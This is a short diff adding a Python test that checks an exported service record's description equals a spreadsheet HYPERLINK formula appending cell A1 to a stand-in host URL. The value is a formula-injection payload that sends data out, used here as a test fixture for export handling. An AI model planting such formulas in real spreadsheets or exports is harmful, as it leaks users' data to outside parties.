@@ -100,6 +100,11 @@ def _leaves(node: Node) -> Iterator[Node]:
         yield node
 
 
+def test_what_a_record_says_is_told_as_it_is(plain: Export) -> None:
+    (service,) = [each for each in records(plain, "services") if each["engagement"] == "paper-crane/website"]
+    assert service["description"] == '=HYPERLINK("https://example.invalid/?"&A1,"x")'
+
+
 # -- what must not leave the firm ----------------------------------------------------------------------
 
 
